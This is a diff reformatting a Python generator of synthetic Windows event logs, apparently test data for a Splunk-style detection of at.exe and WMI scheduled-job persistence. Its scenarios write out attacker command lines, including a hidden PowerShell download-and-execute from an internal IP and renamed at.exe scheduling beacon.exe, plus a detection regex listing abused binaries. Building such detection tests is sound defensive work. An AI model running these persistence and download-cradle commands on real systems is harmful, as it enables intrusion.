+        "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
+    )
+    first = s.spawn(
+        212.4,
+        at_exe,
+        'at  10:05 powershell.exe -nop -w hidden -c "IEX (New-Object '
+        "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
+        shell,
+        tag="attack",
+    )
+    job_runs(
+        s,
+        212.5,
+        ps_exe,
+        'powershell.exe -nop -w hidden -c "IEX (New-Object '
+        "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
+        "At1",
+        "2026-03-11T10:05:00",
+        first.pid,
+        1287.64,
+    )
     benign_background(s, 220, 600, 4)
-    ps = s.spawn(611.0, ps_exe, 'powershell.exe -ExecutionPolicy Bypass -NoProfile', s.session)
-    s.spawn(618.84, at_exe, "at.exe 16:45 /interactive /every:F powershell.exe -ep bypass -File "
-                            "C:\\Users\\Public\\upd.ps1", ps, tag="attack")
-    s.add(sysmon_11(fin, at(s.base, 618.9), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"))
+    ps = s.spawn(611.0, ps_exe, "powershell.exe -ExecutionPolicy Bypass -NoProfile", s.session)
+    s.spawn(
+        618.84,
+        at_exe,
+        "at.exe 16:45 /interactive /every:F powershell.exe -ep bypass -File "
+        "C:\\Users\\Public\\upd.ps1",
+        ps,
+        tag="attack",
+    )
+    s.add(
+        sysmon_11(
+            fin, at(s.base, 618.9), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
+        )
+    )
     benign_background(s, 630, 1480, 6)
     scenarios.append(s)
 
     # Test 3: Win32_ScheduledJob through WMI (PowerShell, pwsh, wmic path ...).
-    s = Scenario("wmi-scheduledjob", "Win32_ScheduledJob created through WMI", app,
-                 dt.datetime(2026, 3, 12, 12, 10, 0), lindqvist)
+    s = Scenario(
+        "wmi-scheduledjob",
+        "Win32_ScheduledJob created through WMI",
+        app,
+        dt.datetime(2026, 3, 12, 12, 10, 0),
+        lindqvist,
+    )
     benign_background(s, 0, 160, 4)
-    shell = s.spawn(168.0, ps_exe, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
-                    s.session)
-    first = s.spawn(171.6, ps_exe, "powershell.exe -c \"Invoke-WmiMethod -Class Win32_ScheduledJob -Name "
-                                   "Create -ArgumentList 'cmd.exe /c whoami > c:\\windows\\temp\\x.txt',"
-                                   "'********123000.000000-000'\"", shell, tag="attack")
-    wmi = root_process(app, SYSTEM32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe "
-                                                             "-secured -Embedding", SYSTEM_USER,
-                       s.base - dt.timedelta(hours=5))
-    job_runs(s, 172.3, cmd_exe, "cmd.exe /c whoami > c:\\windows\\temp\\x.txt", "At1",
-             "2026-03-12T12:30:00", wmi.pid, 1027.83)
+    shell = s.spawn(
+        168.0,
+        ps_exe,
+        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
+        s.session,
+    )
+    first = s.spawn(
+        171.6,
+        ps_exe,
+        'powershell.exe -c "Invoke-WmiMethod -Class Win32_ScheduledJob -Name '
+        "Create -ArgumentList 'cmd.exe /c whoami > c:\\windows\\temp\\x.txt',"
+        "'********123000.000000-000'\"",
+        shell,
+        tag="attack",
+    )
+    wmi = root_process(
+        app,
+        SYSTEM32 + "wbem\\WmiPrvSE.exe",
+        "C:\\Windows\\system32\\wbem\\wmiprvse.exe " "-secured -Embedding",
+        SYSTEM_USER,
+        s.base - dt.timedelta(hours=5),
+    )
+    job_runs(
+        s,
+        172.3,
+        cmd_exe,
+        "cmd.exe /c whoami > c:\\windows\\temp\\x.txt",
+        "At1",
+        "2026-03-12T12:30:00",
+        wmi.pid,
+        1027.83,
+    )
     benign_background(s, 180, 420, 4)
-    s.spawn(433.05, ps_exe, "powershell.exe -NoProfile -Command \"([wmiclass]'\\\\.\\root\\cimv2:"
-                            "Win32_ScheduledJob').Create('powershell.exe -w hidden -f C:\\ProgramData\\sync.ps1',"
-                            "'********021500.000000+000',$true,1,0,$false)\"", shell, tag="attack")
-    s.add(sysmon_11(app, at(s.base, 433.6), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"))
+    s.spawn(
+        433.05,
+        ps_exe,
+        "powershell.exe -NoProfile -Command \"([wmiclass]'\\\\.\\root\\cimv2:"
+        "Win32_ScheduledJob').Create('powershell.exe -w hidden -f C:\\ProgramData\\sync.ps1',"
+        "'********021500.000000+000',$true,1,0,$false)\"",
+        shell,
+        tag="attack",
+    )
+    s.add(
+        sysmon_11(
+            app, at(s.base, 433.6), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
+        )
+    )
     benign_background(s, 440, 700, 4)
-    pwsh = s.spawn(706.3, "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
-                   '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" ', s.session)
-    s.spawn(712.9, "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
-            "pwsh.exe -NoLogo -Command \"Invoke-CimMethod -ClassName Win32_ScheduledJob -MethodName Create "
-            "-Arguments @{Command='C:\\ProgramData\\svc\\rtu.exe'; StartTime='********183000.000000+000'}\"",
-            pwsh, tag="attack")
+    pwsh = s.spawn(
+        706.3,
+        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
+        '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" ',
+        s.session,
+    )
+    s.spawn(
+        712.9,
+        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
+        'pwsh.exe -NoLogo -Command "Invoke-CimMethod -ClassName Win32_ScheduledJob -MethodName Create '
+        "-Arguments @{Command='C:\\ProgramData\\svc\\rtu.exe'; StartTime='********183000.000000+000'}\"",
+        pwsh,
+        tag="attack",
+    )
     benign_background(s, 720, 1000, 3)
     cmd = s.spawn(1004.0, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session)
-    s.spawn(1010.44, SYSTEM32 + "wbem\\WMIC.exe", 'wmic  path win32_scheduledjob call create '
-                                                  '"powershell.exe -nop -c whoami","********140000.000000+000"',
-            cmd, tag="attack")
-    s.spawn(1019.72, SYSTEM32 + "wbem\\WMIC.exe", 'wmic  job call create "cmd.exe /c whoami",'
-                                                  '"********141500.000000+000"', cmd, tag="attack")
+    s.spawn(
+        1010.44,
+        SYSTEM32 + "wbem\\WMIC.exe",
+        "wmic  path win32_scheduledjob call create "
+        '"powershell.exe -nop -c whoami","********140000.000000+000"',
+        cmd,
+        tag="attack",
+    )
+    s.spawn(
+        1019.72,
+        SYSTEM32 + "wbem\\WMIC.exe",
+        'wmic  job call create "cmd.exe /c whoami",' '"********141500.000000+000"',
+        cmd,
+        tag="attack",
+    )
     benign_background(s, 1030, 1300, 4)
     scenarios.append(s)
 
     # Variants a name-based rule can miss: a renamed at.exe, upper-case AT.EXE.
-    s = Scenario("at-evasion", "renamed and upper-case at.exe", eng, dt.datetime(2026, 3, 13, 22, 5, 0), reyes)
+    s = Scenario(
+        "at-evasion",
+        "renamed and upper-case at.exe",
+        eng,
+        dt.datetime(2026, 3, 13, 22, 5, 0),
+        reyes,
+    )
     benign_background(s, 0, 200, 4)
     cmd = s.spawn(204.0, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session)
-    s.spawn(209.5, SYSTEM32 + "cmd.exe", "cmd.exe /c copy C:\\Windows\\System32\\at.exe C:\\Users\\Public\\svc.exe",
-            cmd)
-    renamed = s.spawn(215.77, "C:\\Users\\Public\\svc.exe", "svc.exe 22:30 /every:M,T,W,Th,F "
-                                                         "C:\\Users\\Public\\beacon.exe", cmd,
-                      tag="attack", file_meta=IMAGE_META["at.exe"])
-    job_runs(s, 215.85, "C:\\Users\\Public\\beacon.exe", "C:\\Users\\Public\\beacon.exe", "At1",
-             "2026-03-13T22:30:00", renamed.pid, 1284.5)
+    s.spawn(
+        209.5,
+        SYSTEM32 + "cmd.exe",
+        "cmd.exe /c copy C:\\Windows\\System32\\at.exe C:\\Users\\Public\\svc.exe",
+        cmd,
+    )
+    renamed = s.spawn(
+        215.77,
+        "C:\\Users\\Public\\svc.exe",
+        "svc.exe 22:30 /every:M,T,W,Th,F " "C:\\Users\\Public\\beacon.exe",
+        cmd,
+        tag="attack",
+        file_meta=IMAGE_META["at.exe"],
+    )
+    job_runs(
+        s,
+        215.85,
+        "C:\\Users\\Public\\beacon.exe",
+        "C:\\Users\\Public\\beacon.exe",
+        "At1",
+        "2026-03-13T22:30:00",
+        renamed.pid,
+        1284.5,
+    )
     benign_background(s, 220, 500, 4)
-    s.spawn(512.31, "C:\\WINDOWS\\system32\\AT.EXE", "AT.EXE 23:45 C:\\ProgramData\\updater.exe", cmd,
-            tag="attack")
-    s.add(sysmon_11(eng, at(s.base, 512.4), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"))
+    s.spawn(
+        512.31,
+        "C:\\WINDOWS\\system32\\AT.EXE",
+        "AT.EXE 23:45 C:\\ProgramData\\updater.exe",
+        cmd,
+        tag="attack",
+    )
+    s.add(
+        sysmon_11(
+            eng, at(s.base, 512.4), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
+        )
+    )
     benign_background(s, 520, 1700, 6)
     scenarios.append(s)
     return scenarios
@@ -672,14 +1105,31 @@ def xml_line(ev):
         "<Level>%d</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords>"
         "<TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/>"
         "<Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel><Computer>%s</Computer>%s"
-        "</System>" % (name, provider_guid, ev.eid, ev.version, ev.level, ev.task, ev.keywords,
-                       system_time(ev.when), ev.record, ev.execution[0], ev.execution[1],
-                       ev.channel, ev.host.fqdn, security))
+        "</System>"
+        % (
+            name,
+            provider_guid,
+            ev.eid,
+            ev.version,
+            ev.level,
+            ev.task,
+            ev.keywords,
+            system_time(ev.when),
+            ev.record,
+            ev.execution[0],
+            ev.execution[1],
+            ev.channel,
+            ev.host.fqdn,
+            security,
+        )
+    )
     data = "".join("<Data Name='%s'>%s</Data>" % (k, escape(v, TEXT_ENTITIES)) for k, v in ev.data)
     # Line breaks inside a value become character references: one event, one line.
     data = data.replace("\r", "&#13;").replace("\n", "&#10;")
-    return ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>%s<EventData>%s"
-            "</EventData></Event>" % (system, data))
+    return (
+        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>%s<EventData>%s"
+        "</EventData></Event>" % (system, data)
+    )
 
 
 TOKEN_PARAGRAPHS = (
@@ -696,7 +1146,8 @@ TOKEN_PARAGRAPHS = (
     "Type 3 is a limited token with administrative privileges removed and administrative groups "
     "disabled.  The limited token is used when User Account Control is enabled, the application "
     "does not require administrative privilege, and the user does not choose to start the program "
-    "using Run as administrator.")
+    "using Run as administrator."
+)
 
 LOGON_PARAGRAPHS = (
     "This event is generated when a logon session is created. It is generated on the computer "
@@ -709,7 +1160,8 @@ LOGON_PARAGRAPHS = (
     "The New Logon fields indicate the account for whom the new logon was created, i.e. the account "
     "that was logged on.\n\n"
     "The network fields indicate where a remote logon request originated. Workstation name is not "
-    "always available and may be left blank in some cases.")
+    "always available and may be left blank in some cases."
+)
 
 
 def message(ev):
@@ -729,7 +1181,8 @@ def message(ev):
             "Process Information:\n\tNew Process ID:\t\t{NewProcessId}\n\tNew Process Name:\t{NewProcessName}\n"
             "\tToken Elevation Type:\t{TokenElevationType}\n\tMandatory Label:\t\t{MandatoryLabel}\n"
             "\tCreator Process ID:\t{ProcessId}\n\tCreator Process Name:\t{ParentProcessName}\n"
-            "\tProcess Command Line:\t{CommandLine}\n\n".format(**d) + TOKEN_PARAGRAPHS)
+            "\tProcess Command Line:\t{CommandLine}\n\n".format(**d) + TOKEN_PARAGRAPHS
+        )
     if ev.eid == 4624:
         return (
             "An account was successfully logged on.\n\n"
@@ -747,13 +1200,15 @@ def message(ev):
             "\tSource Network Address:\t{IpAddress}\n\tSource Port:\t\t{IpPort}\n\n"
             "Detailed Authentication Information:\n\tLogon Process:\t\t{LogonProcessName}\n"
             "\tAuthentication Package:\t{AuthenticationPackageName}\n\tTransited Services:\t-\n"
-            "\tPackage Name (NTLM only):\t-\n\tKey Length:\t\t0\n\n".format(**d) + LOGON_PARAGRAPHS)
+            "\tPackage Name (NTLM only):\t-\n\tKey Length:\t\t0\n\n".format(**d) + LOGON_PARAGRAPHS
+        )
     if ev.eid == 4672:
         return (
             "Special privileges assigned to new logon.\n\n"
             "Subject:\n\tSecurity ID:\t\t{SubjectUserSid}\n\tAccount Name:\t\t{SubjectUserName}\n"
             "\tAccount Domain:\t\t{SubjectDomainName}\n\tLogon ID:\t\t{SubjectLogonId}\n\n"
-            "Privileges:\t\t".format(**d) + "\n\t\t\t".join(PRIVILEGES))
+            "Privileges:\t\t".format(**d) + "\n\t\t\t".join(PRIVILEGES)
+        )
     if ev.eid == 4634:
         return (
             "An account was logged off.\n\n"
@@ -762,7 +1217,8 @@ def message(ev):
             "Logon Type:\t\t\t{LogonType}\n\n"
             "This event is generated when a logon session is destroyed. It may be positively correlated "
             "with a logon event using the Logon ID value. Logon IDs are only unique between reboots on "
-            "the same computer.".format(**d))
+            "the same computer.".format(**d)
+        )
     if ev.eid == 4698:
         return (
             "A scheduled task was created.\n\n"
@@ -771,7 +1227,8 @@ def message(ev):
             "Task Information:\n\tTask Name: \t\t{TaskName}\n\tTask Content: \t\t{TaskContent}\n\n"
             "Other Information:\n\tProcessCreationTime: \t\t{ClientProcessStartKey}\n"
             "\tClientProcessId: \t\t\t{ClientProcessId}\n\tParentProcessId: \t\t\t{ParentProcessId}\n"
-            "\tFQDN: \t\t{FQDN}".format(**d).replace("\r\n", "\n"))
+            "\tFQDN: \t\t{FQDN}".format(**d).replace("\r\n", "\n")
+        )
     raise ValueError("no message for %s %d" % (ev.channel, ev.eid))
 
 
@@ -832,9 +1289,15 @@ def nxlog(ev):
     return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
 
 
-WINLOGBEAT_TASK = {1: "Process Create (rule: ProcessCreate)", 11: "File created (rule: FileCreate)",
-                   4688: "Process Creation", 4624: "Logon", 4672: "Special Logon", 4634: "Logoff",
-                   4698: "Other Object Access Events"}
+WINLOGBEAT_TASK = {
+    1: "Process Create (rule: ProcessCreate)",
+    11: "File created (rule: FileCreate)",
+    4688: "Process Creation",
+    4624: "Logon",
+    4672: "Special Logon",
+    4634: "Logoff",
+    4698: "Other Object Access Events",
+}
 
 
 def winlogbeat(ev):
@@ -857,13 +1320,23 @@ def winlogbeat(ev):
     if ev.channel == SECURITY:
         winlog["keywords"] = ["Audit Success"]
     else:
-        winlog["user"] = {"identifier": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM",
-                          "type": "User"}
+        winlog["user"] = {
+            "identifier": "S-1-5-18",
+            "domain": "NT AUTHORITY",
+            "name": "SYSTEM",
+            "type": "User",
+        }
     doc = {
         "@timestamp": iso_ms(ev.when),
-        "event": {"code": str(ev.eid), "kind": "event", "provider": name,
-                  "created": iso_ms(ev.when + dt.timedelta(seconds=1, microseconds=rng.randint(0, 900000))),
-                  "action": WINLOGBEAT_TASK[ev.eid]},
+        "event": {
+            "code": str(ev.eid),
+            "kind": "event",
+            "provider": name,
+            "created": iso_ms(
+                ev.when + dt.timedelta(seconds=1, microseconds=rng.randint(0, 900000))
+            ),
+            "action": WINLOGBEAT_TASK[ev.eid],
+        },
         "host": {"name": ev.host.fqdn},
         "agent": {"type": "winlogbeat", "version": "8.15.3", "name": ev.host.short},
         "ecs": {"version": "8.0.0"},
@@ -905,8 +1378,19 @@ def splunk_export(ev, offset, last):
 # ---------------------------------------------------------------------------------------------
 
 SOURCETYPES = ("xmlwineventlog:microsoft-windows-sysmon/operational", "wineventlog:security")
-COLUMNS = ["_time", "host", "User", "Image", "CommandLine", "ParentImage", "IsSuspiciousPayload",
-           "IsInteractive", "IsSuspiciousParent", "IsWMIScheduledJob", "SuspicionScore"]
+COLUMNS = [
+    "_time",
+    "host",
+    "User",
+    "Image",
+    "CommandLine",
+    "ParentImage",
+    "IsSuspiciousPayload",
+    "IsInteractive",
+    "IsSuspiciousParent",
+    "IsWMIScheduledJob",
+    "SuspicionScore",
+]
 
 
 def ends(fields, name, suffix):
@@ -927,11 +1411,22 @@ def search(view):
     sysmon1, proc4688 = code == "1", code == "4688"
     return (
         (sysmon1 and (ends(f, "Image", "\\at.exe") or ends(f, "Image", "\\at")))
-        or (proc4688 and (ends(f, "NewProcessName", "\\at.exe") or ends(f, "NewProcessName", "\\at")))
+        or (
+            proc4688
+            and (ends(f, "NewProcessName", "\\at.exe") or ends(f, "NewProcessName", "\\at"))
+        )
         or (sysmon1 and ends(f, "Image", "\\wmic.exe") and has(f, "CommandLine", "ScheduledJob"))
-        or (sysmon1 and (ends(f, "Image", "\\powershell.exe") or ends(f, "Image", "\\pwsh.exe"))
-            and has(f, "CommandLine", "Win32_ScheduledJob"))
-        or (proc4688 and ends(f, "NewProcessName", "\\wmic.exe") and has(f, "CommandLine", "ScheduledJob")))
+        or (
+            sysmon1
+            and (ends(f, "Image", "\\powershell.exe") or ends(f, "Image", "\\pwsh.exe"))
+            and has(f, "CommandLine", "Win32_ScheduledJob")
+        )
+        or (
+            proc4688
+            and ends(f, "NewProcessName", "\\wmic.exe")
+            and has(f, "CommandLine", "ScheduledJob")
+        )
+    )
 
 
 def flag(value, pattern):
@@ -954,8 +1449,11 @@ def reference_query(views):
         parent = coalesce(f.get("ParentImage"), f.get("ParentProcessName"))
         user = coalesce(f.get("User"), f.get("SubjectUserName"))
         host = coalesce(view["host"], f.get("ComputerName"))
-        payload = flag(command_line, r"(cmd\.exe|powershell|wscript|cscript|mshta|rundll32|regsvr32"
-                                     r"|certutil|bitsadmin|\.bat|\.vbs|\.ps1|\.hta)")
+        payload = flag(
+            command_line,
+            r"(cmd\.exe|powershell|wscript|cscript|mshta|rundll32|regsvr32"
+            r"|certutil|bitsadmin|\.bat|\.vbs|\.ps1|\.hta)",
+        )
         interactive = flag(command_line, r"/interactive")
         bad_parent = flag(parent, r"(powershell|wscript|cscript|mshta|python|perl|ruby)")
         wmi = flag(command_line, r"(win32_scheduledjob|scheduledjob)")
@@ -963,8 +1461,24 @@ def reference_query(views):
         # where SuspicionScore > 0 OR Image LIKE "%\\at.exe": LIKE is case-sensitive.
         if not (score > 0 or (image is not None and image.endswith("\\at.exe"))):
             continue
-        rows.append((view["time"], [iso_ms(view["time"], zulu=False), host, user, image, command_line,
-                                    parent, payload, interactive, bad_parent, wmi, score]))
+        rows.append(
+            (
+                view["time"],
+                [
+                    iso_ms(view["time"], zulu=False),
+                    host,
+                    user,
+                    image,
+                    command_line,
+                    parent,
+                    payload,
+                    interactive,
+                    bad_parent,
+                    wmi,
+                    score,
+                ],
+            )
+        )
     rows.sort(key=lambda r: r[0], reverse=True)
     return [r[1] for r in rows]
 
@@ -974,8 +1488,13 @@ def xml_view(ev, host=None):
     for key, value in ev.data:
         if value != "":
             fields[key] = value
-    return {"time": ev.when, "host": host or ev.host.fqdn, "index": "wineventlog",
-            "sourcetype": "XmlWinEventLog:" + ev.channel, "fields": fields}
+    return {
+        "time": ev.when,
+        "host": host or ev.host.fqdn,
+        "index": "wineventlog",
+        "sourcetype": "XmlWinEventLog:" + ev.channel,
+        "fields": fields,
+    }
 
 
 def classic_view(ev):
@@ -985,8 +1504,13 @@ def classic_view(ev):
         match = re.match(r"^\t*([A-Za-z][A-Za-z ()]*):\t+(.*)$", line)
         if match and match.group(2):
             fields.setdefault(match.group(1).replace(" ", "_"), match.group(2))
-    return {"time": ev.when, "host": ev.host.fqdn, "index": "wineventlog",
-            "sourcetype": "WinEventLog:Security", "fields": fields}
+    return {
+        "time": ev.when,
+        "host": ev.host.fqdn,
+        "index": "wineventlog",
+        "sourcetype": "WinEventLog:Security",
+        "fields": fields,
+    }
 
 
 # ---------------------------------------------------------------------------------------------
@@ -1013,7 +1537,11 @@ def summary(name, events):
     tags = {}
     for ev in events:
         tags[ev.tag] = tags.get(ev.tag, 0) + 1
-    return "%-40s %4d events  %s" % (name, len(events), " ".join("%s=%d" % kv for kv in sorted(tags.items())))
+    return "%-40s %4d events  %s" % (
+        name,
+        len(events),
+        " ".join("%s=%d" % kv for kv in sorted(tags.items())),
+    )
 
 
 def main():
@@ -1026,24 +1554,34 @@ def main():
         security = [e for e in events if e.channel == SECURITY]
         all_security.extend(security)
         files = {
-            "sysmon-%s.xml" % scn.name: (sysmon, [xml_line(e) for e in sysmon], [xml_view(e) for e in sysmon]),
-            "security-4688-%s.xml" % scn.name: (security, [xml_line(e) for e in security],
-                                               [xml_view(e) for e in security]),
-            "json-nxlog-%s.json" % scn.name: (events, [nxlog(e) for e in events], [xml_view(e) for e in events]),
-            "json-winlogbeat-%s.json" % scn.name: (events, [winlogbeat(e) for e in events],
-                                                  [xml_view(e) for e in events]),
+            "sysmon-%s.xml"
+            % scn.name: (sysmon, [xml_line(e) for e in sysmon], [xml_view(e) for e in sysmon]),
+            "security-4688-%s.xml"
+            % scn.name: (
+                security,
+                [xml_line(e) for e in security],
+                [xml_view(e) for e in security],
+            ),
+            "json-nxlog-%s.json"
+            % scn.name: (events, [nxlog(e) for e in events], [xml_view(e) for e in events]),
+            "json-winlogbeat-%s.json"
+            % scn.name: (events, [winlogbeat(e) for e in events], [xml_view(e) for e in events]),
         }
         newest_first = list(reversed(events))
         files["splunk-export-%s.json" % scn.name] = (
             newest_first,
             [splunk_export(e, i, i == len(newest_first) - 1) for i, e in enumerate(newest_first)],
-            [xml_view(e, e.host.splunk_host) for e in newest_first])
+            [xml_view(e, e.host.splunk_host) for e in newest_first],
+        )
         for name, (evs, lines, views) in files.items():
             write(name, lines, views)
             report.append(summary(name, evs))
     all_security.sort(key=lambda e: e.when)
-    write("security-4688-classic.log", [classic(e) for e in all_security],
-          [classic_view(e) for e in all_security])
+    write(
+        "security-4688-classic.log",
+        [classic(e) for e in all_security],
+        [classic_view(e) for e in all_security],
+    )
     report.append(summary("security-4688-classic.log", all_security))
     print("\n".join(report))
 
